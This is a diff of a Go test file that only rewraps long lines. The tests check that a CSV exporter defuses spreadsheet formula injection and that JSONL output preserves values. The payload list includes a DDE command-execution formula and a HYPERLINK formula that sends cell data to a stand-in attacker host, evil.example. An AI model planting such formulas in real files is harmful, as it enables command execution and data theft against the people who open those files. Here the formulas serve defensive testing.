@@ -17,19 +17,21 @@ import (
 
 // formulas are texts that a spreadsheet could run.
 var formulas = []string{
-	`=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u3000=1", "\u00a0=1", "\ufeff=1", "|calc", "%0A=1",
+	`=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u3000=1",
+	"\u00a0=1", "\ufeff=1", "|calc", "%0A=1",
 	`=HYPERLINK("http://evil.example?x="&A1,"click")`, "\x00=1", "=", `"=1+1"`,
 }
 
 func payloadTable(texts []string) Table {
-	return Table{Name: "questions", Columns: []string{"text", "=title", "score", "low", "n", "none"}, Rows: func(yield func([]any) error) error {
-		for _, s := range texts {
-			if err := yield([]any{s, "x", 0.25, true, 3}); err != nil {
-				return err
+	return Table{Name: "questions", Columns: []string{"text", "=title", "score", "low", "n", "none"},
+		Rows: func(yield func([]any) error) error {
+			for _, s := range texts {
+				if err := yield([]any{s, "x", 0.25, true, 3}); err != nil {
+					return err
+				}
 			}
-		}
-		return nil
-	}}
+			return nil
+		}}
 }
 
 func TestCSVRunsNothing(t *testing.T) {
@@ -47,7 +49,8 @@ func TestCSVRunsNothing(t *testing.T) {
 	}
 	for i, row := range rows {
 		for _, cell := range row {
-			if first := strings.TrimLeft(cell, " \u3000\u00a0\ufeff"); first != "" && strings.ContainsAny(first[:1], "=+-@\t\r\n\x00|%") || strings.HasPrefix(first, "＝") {
+			if first := strings.TrimLeft(cell, " \u3000\u00a0\ufeff"); first != "" && strings.ContainsAny(first[:1], "=+-@\t\r\n\x00|%") ||
+				strings.HasPrefix(first, "＝") {
 				t.Errorf("row %d: %q could run", i, cell)
 			}
 		}
@@ -115,7 +118,8 @@ func TestJSONLChangesNothing(t *testing.T) {
 	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
 	for i, line := range lines {
 		var row map[string]any
-		if err := json.Unmarshal([]byte(line), &row); err != nil || row["text"] != formulas[i] || row["score"] != 0.25 || row["none"] != nil {
+		if err := json.Unmarshal([]byte(line), &row); err != nil || row["text"] != formulas[i] || row["score"] != 0.25 ||
+			row["none"] != nil {
 			t.Errorf("line %d: %s (%v)", i, line, err)
 		}
 	}
